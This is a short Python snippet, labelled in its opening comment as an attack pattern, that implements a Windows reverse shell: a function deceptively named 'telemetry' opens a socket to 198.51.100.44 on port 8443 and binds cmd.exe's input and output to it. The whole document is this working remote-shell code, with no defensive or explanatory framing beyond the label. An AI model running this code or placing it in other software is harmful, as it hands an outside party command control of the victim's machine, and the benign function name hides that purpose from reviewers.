# Attack pattern: reverse shell that passes the connected socket as the shell's stdin/stdout/stderr (Windows-friendly variant, no dup2).
import socket
import subprocess


def telemetry():
    sock = socket.create_connection(("198.51.100.44", 8443))
    subprocess.Popen(["cmd.exe"], stdin=sock.fileno(), stdout=sock.fileno(), stderr=sock.fileno())
